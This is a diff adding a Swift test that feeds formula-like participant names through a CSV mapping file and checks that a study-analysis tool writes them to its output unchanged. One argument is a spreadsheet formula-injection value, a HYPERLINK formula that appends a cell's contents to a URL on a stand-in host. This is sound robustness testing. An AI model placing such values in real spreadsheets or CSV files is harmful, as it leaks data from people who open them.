@@ -46,6 +46,23 @@ import Testing
     #expect(messages.split(separator: "\n").allSatisfy { $0.hasPrefix("analyze: ") })
   }
 
+  /// A participant is joined with other tables by these bytes; what a spreadsheet makes of them is its own.
+  @Test(arguments: [
+    #"=HYPERLINK("http://example.org?a="&A1,"b")"#, "=1+1", "+1", "@SUM(A1)", "a\nb", "a\r\nb",
+  ]) func `a participant may be named like a formula`(name: String) throws {
+    let scratch = try Scratch()
+    try scratch.write("study/S/a.json", Fixture.accelerometer())
+    try scratch.write("study/S/b.json", "[")
+    let cell = "\"" + name.replacingOccurrences(of: "\"", with: "\"\"") + "\""
+    try scratch.write("map.csv", "file,participant\na.json,\(cell)\nb.json,\(cell)\n")
+    let outcome = try Tool.run(
+      ["run", "study", "--map", "map.csv", "-o", "out", "--fail-on", "none"], in: scratch.url)
+    #expect(outcome.status == 0)
+    let table = try Table(csv: scratch.read("out/metrics.csv"))
+    #expect(Set(table.rows.map { Array(($0["participant"] ?? "").utf8) }) == [Array(name.utf8)])
+    #expect(Set(table.rows.map { $0["source"] }) == ["S/a.json", "S/b.json"])
+  }
+
   @Test func `names that end with zero bytes may hold line breaks`() throws {
     let scratch = try study()
     let list = Self.names.map { "study/\($0)/\($0).json\0" }.joined()
